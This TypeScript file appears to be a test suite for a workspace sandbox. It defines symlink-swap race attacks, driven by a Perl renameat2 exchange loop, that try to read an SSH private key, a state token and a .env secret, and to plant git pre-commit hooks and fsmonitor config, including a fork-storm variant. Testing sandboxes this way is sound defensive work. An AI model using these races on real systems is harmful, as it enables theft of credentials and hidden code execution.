/** Programs that change names in the workspace without pause, and what a command tries meanwhile. */

export interface Attack {
  /** Files that the person has, by name in the place: see sandboxedWorkspace. Their repositories hold a file `person`. */
  readonly files: Readonly<Record<string, string>>;
  /** Runs before, once, as a command. */
  readonly prepare: string;
  /** Perl that runs as a background command for as long as the attack. */
  readonly swapper: string;
  /** One attempt, of this number; whatever of {@link LOOT} it prints is a hit. */
  readonly attempt: (index: number) => string;
}

/** Is in every file that no command may read. */
export const LOOT = 'LOOT-of-the-person';
/** Is in everything that a command writes where it may not. */
export const MARK = 'MARK-of-a-command';

/** Exchanges two names at once: renameat2(2) with RENAME_EXCHANGE, which no shell has. */
const EXCHANGE = `
use POSIX;
my $renameat2 = (POSIX::uname())[4] eq "aarch64" ? 276 : 316;
sub swap { my ($a, $b) = @_; syscall($renameat2, -100, $a, -100, $b, 2); }
`;

/** A new protected name each time: only then is a base made at all. */
const provoke = (index: number) => `mkdir -p fresh/${index}/.vscode`;
const WRITE = `for git in */.git */*/.git; do echo ${MARK} > $git/hooks/pre-commit; git -C "$(dirname $git)" config core.fsmonitor ${MARK}; done`;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'a folder for a link into the home folder': {
    files: { 'home/.ssh/id_ed25519': LOOT },
    prepare: 'mkdir -p x/.git y; ln -s "$HOME/.ssh" y/.git',
    swapper: `${EXCHANGE} while (1) { swap("x/.git", "y/.git"); }`,
    attempt: (index) => `cat x/.git/id_ed25519 y/.git/id_ed25519; ${provoke(index)}`,
  },
  'a folder for a link into our own state': {
    files: { 'instances/state/token': LOOT },
    prepare: 'mkdir -p x/.git y; ln -s "$HOME/../instances/state" y/.git',
    swapper: `${EXCHANGE} while (1) { swap("x/.git", "y/.git"); }`,
    attempt: (index) => `cat x/.git/token y/.git/token; ${provoke(index)}`,
  },
  'the parents of a repository': {
    files: { 'workspace/a/b/.git/person': '', 'workspace/a/b/.git/hooks/none': '' },
    prepare: 'mkdir -p c/b/.git/hooks c/d',
    swapper: `${EXCHANGE} while (1) { swap("a", "c"); swap("a/b", "c/b"); }`,
    attempt: (index) => `${WRITE}; ${provoke(index)}`,
  },
  'the parents of a secret': {
    files: { 'workspace/a/b/.env': LOOT },
    prepare: 'mkdir -p c/b; touch c/b/.env',
    swapper: `${EXCHANGE} while (1) { swap("a", "c"); swap("a/b", "c/b"); }`,
    attempt: (index) => `cat a/b/.env c/b/.env; ${provoke(index)}`,
  },
  'a folder for a link out of the new root': {
    files: {},
    prepare:
      'mkdir -p x/y/.vscode z; ln -s "/oldroot$HOME/../outside" z/y; ln -s "$HOME/../outside" z/w',
    swapper: `${EXCHANGE} while (1) { swap("x/y", "z/y"); swap("x/y", "z/w"); rename("x/y/.vscode", "x/y/.idea"); rename("x/y/.idea", "x/y/.vscode"); }`,
    attempt: (index) =>
      `echo ${MARK} > x/y/.vscode/made; echo ${MARK} > x/y/made; ${provoke(index)}`,
  },
  'everything, in a storm of forks that wake each other': {
    files: {
      'workspace/a/b/.env': LOOT,
      'workspace/a/b/.git/person': '',
      'workspace/a/b/.git/hooks/none': '',
    },
    prepare: 'mkdir -p c/b; touch c/b/.env',
    swapper: `${EXCHANGE}
      for my $i (1 .. 3) { if (!fork()) { while (1) { kill("CONT", -1); select(undef, undef, undef, 0.001); } } }
      for my $i (1 .. 2) { if (!fork()) { while (1) { if (my $child = fork()) { waitpid($child, 0); } else { swap("a", "c"); exit; } } } }
      while (1) { swap("a/b", "c/b"); }`,
    attempt: (index) => `cat a/b/.env c/b/.env; ${WRITE}; ${provoke(index)}`,
  },
};
